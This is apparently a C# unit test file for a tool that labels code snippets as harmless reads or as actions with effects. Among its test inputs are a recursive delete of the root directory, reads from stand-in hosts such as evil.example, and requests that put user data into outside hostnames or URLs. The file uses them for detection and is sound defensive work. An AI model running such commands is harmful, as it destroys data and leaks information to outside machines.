using Firstlook.Effects;

namespace Firstlook.Tests.Effects;

/// <summary>Calls, paths and requests of code that are spelled otherwise than as a rule.</summary>
public sealed class FurtherCodeTests
{
    static Classified Whole(Language language, string text) => Classifier.Whole(text, language);

    [Theory]
    [InlineData(Language.Python, "F = FG\nrm['-rf', '/'] & F")]
    [InlineData(Language.Python, "c &= FG")]
    [InlineData(Language.Python, "files | (delete_all)")]
    [InlineData(Language.Python, "files >> tasks.delete_all")]
    [InlineData(Language.JavaScript, "orders.map?.(closeAccount)")]
    [InlineData(Language.JavaScript, "orders.map(closeAccount as any)")]
    [InlineData(Language.JavaScript, "orders.map(<any>closeAccount)")]
    [InlineData(Language.JavaScript, "orders.map(x = closeAccount)")]
    [InlineData(Language.Python, "zk.get('/x', watch=page_oncall)")]
    [InlineData(Language.Ruby, "User.first.to_json(include: {orders: {methods: %w[destroy]}})")]
    public void A_function_that_is_run_by_an_operator_an_optional_call_or_a_cast_is_called(Language language, string text) =>
        Assert.True(Whole(language, text).Effect > Effect.Read);

    [Theory]
    [InlineData(Language.Python, "df[(df.a > 1) & (df.b < 2)]")]
    [InlineData(Language.Python, "perms = Permission.READ | Permission.DELETE_USERS")]
    [InlineData(Language.JavaScript, "orders?.map?.(x => x.id)")]
    [InlineData(Language.JavaScript, "orders.map(x => x as any)")]
    [InlineData(Language.Ruby, "User.first.as_json(only: [:id], methods: [:full_name])")]
    public void Masks_flags_and_written_functions_stay_reads(Language language, string text) => Assert.Equal(Effect.Read, Whole(language, text).Effect);

    [Theory]
    [InlineData(Language.Python, "client.get_stats(reset=True)")]
    [InlineData(Language.Python, "client.get_orders(mark_read=True)")]
    [InlineData(Language.JavaScript, "client.getMessages({delete: true})")]
    [InlineData(Language.JavaScript, "repo.findOne({where: {}, lock: {mode: 'pessimistic_write'}})")]
    [InlineData(Language.Python, "client.fetch_then_archive()")]
    [InlineData(Language.Python, "client.find_while_purging()")]
    [InlineData(Language.Python, "client.get_orders_to_queue()")]
    [InlineData(Language.Python, "client.has_or_create('x')")]
    [InlineData(Language.Python, "client.get_verification_code(phone)")]
    public void A_reads_name_that_goes_on_or_is_told_to_act_is_no_read(Language language, string text) => Assert.True(Whole(language, text).Effect > Effect.Read);

    [Theory]
    [InlineData(Language.Python, "client.get_messages(limit=10, include_deleted=True)")]
    [InlineData(Language.Python, "client.get_stats(reset=False)")]
    [InlineData(Language.JavaScript, "User.findAll({where: {lock: true}})")]
    [InlineData(Language.JavaScript, "prisma.user.findMany({select: {id: true, email: true}})")]
    [InlineData(Language.Python, "client.list_on_call_users()")]
    [InlineData(Language.Python, "client.get_users_by_rating()")]
    [InlineData(Language.Python, "user.has_view_or_delete_permission()")]
    public void Filters_columns_and_predicates_stay_reads(Language language, string text) => Assert.Equal(Effect.Read, Whole(language, text).Effect);

    [Theory]
    [InlineData(Language.Python, "requests.get('http://h/x', proxies={'https': 'http://proxy.example.com'})")]
    [InlineData(Language.Python, "requests.get('http://shop.example.com/', headers={'Authorization': t})")]
    [InlineData(Language.Python, "requests.get('http://shop.example.com/', params=[('a', x)])")]
    [InlineData(Language.Python, "requests.get('http://shop.example.com/', params=get_users())")]
    [InlineData(Language.Python, "socket.gethostbyname('.'.join([users, 'example', 'com']))")]
    [InlineData(Language.Python, "socket.create_connection((users + '.example.com', 80))")]
    [InlineData(Language.Python, "Redis(host='cache.example.com', password=x).ping()")]
    [InlineData(Language.Ruby, "p Faraday.new(\"http://example.com/#{User.first.name}\").get")]
    [InlineData(Language.Ruby, "p HTTParty.get('http://example.com/', query: {x: User.count})")]
    [InlineData(Language.PowerShell, "Get-CimInstance Win32_OperatingSystem -ComputerName db.example.com")]
    [InlineData(Language.PowerShell, "Test-NetConnection \"$(hostname).example.com\"")]
    public void What_goes_to_a_machine_that_may_be_anybodys_is_held(Language language, string text) => Assert.Equal(Effect.Unknown, Whole(language, text).Effect);

    [Theory]
    [InlineData(Language.Python, "requests.get('https://api.example.com/repos/' + repo)")]
    [InlineData(Language.Python, "socket.create_connection(('example.com', 443), timeout=3)")]
    [InlineData(Language.Python, "Redis(host='redis.internal', password=pw).ping()")]
    [InlineData(Language.PowerShell, "Get-CimInstance Win32_OperatingSystem -ComputerName sql01.corp.local")]
    [InlineData(Language.PowerShell, "Test-NetConnection -ComputerName api.example.com -Port 443")]
    public void Everyday_requests_and_machines_of_the_own_network_stay_reads(Language language, string text) => Assert.Equal(Effect.Read, Whole(language, text).Effect);

    [Theory]
    [InlineData(Language.Python, "payment.reverse()")]
    [InlineData(Language.Python, "es.indices.split(index='x', target='y')")]
    [InlineData(Language.Python, "purge_orders.map(range(3))")]
    [InlineData(Language.Python, "print(client.get_messages('q', True))")]
    [InlineData(Language.Python, "print(client.get_stats(**opts))")]
    [InlineData(Language.Python, "driver.get('javascript:x()')")]
    [InlineData(Language.Python, "print(pd.read_csv('smb://evil.example/x'))")]
    [InlineData(Language.Python, "print(requests.get(f'http://h/{action}'))")]
    [InlineData(Language.JavaScript, "await mailer.test()")]
    [InlineData(Language.JavaScript, "await webhook.ping()")]
    [InlineData(Language.JavaScript, "localStorage.count++")]
    [InlineData(Language.JavaScript, "console.log(await db.select().from(users).for('update'))")]
    [InlineData(Language.JavaScript, "console.log(await User.aggregate('id', 'pg_terminate_backend'))")]
    [InlineData(Language.JavaScript, "console.log(await repo.find({where: 'purge()'}))")]
    [InlineData(Language.Ruby, "p subscription.change(plan: 'pro')")]
    [InlineData(Language.Ruby, "p Mail.find(what: :first)")]
    [InlineData(Language.PowerShell, "Find-AndKillProcess x")]
    [InlineData(Language.PowerShell, "Get-TempFilesPurge")]
    [InlineData(Language.PowerShell, "Get-ADUser x -Server evil.example")]
    [InlineData(Language.PowerShell, "Get-Content ('\\'*2 + 'evil.example\\x')")]
    [InlineData(Language.PowerShell, "Invoke-RestMethod \"http://h/$action\"")]
    public void A_reads_name_acts_by_what_it_is_asked_of_and_given(Language language, string text) => Assert.True(Whole(language, text).Effect > Effect.Read);

    [Theory]
    [InlineData(Language.Python, "names.reverse()")]
    [InlineData(Language.Python, "print(list(frame.map(str)))")]
    [InlineData(Language.Python, "print(requests.get(f'http://h/users/{user_id}'))")]
    [InlineData(Language.Python, "print(db.command('dbstats'))")]
    [InlineData(Language.JavaScript, "console.log(/x/.test(name))")]
    [InlineData(Language.JavaScript, "let n = 0; n++; console.log(n)")]
    [InlineData(Language.JavaScript, "console.log(await repo.find({where: 'id > 3'}))")]
    [InlineData(Language.Ruby, "p Time.now.change(hour: 0)")]
    [InlineData(Language.PowerShell, "Get-MailboxDatabaseCopyStatus * | Format-Table -Auto")]
    [InlineData(Language.PowerShell, "Get-ADUser x -Server dc01.corp.local")]
    [InlineData(Language.Redis, "FT.AGGREGATE idx * GROUPBY 1 @x REDUCE COUNT 0")]
    public void The_same_name_of_a_list_a_time_or_a_frame_reads(Language language, string text) => Assert.Equal(Effect.Read, Whole(language, text).Effect);
}
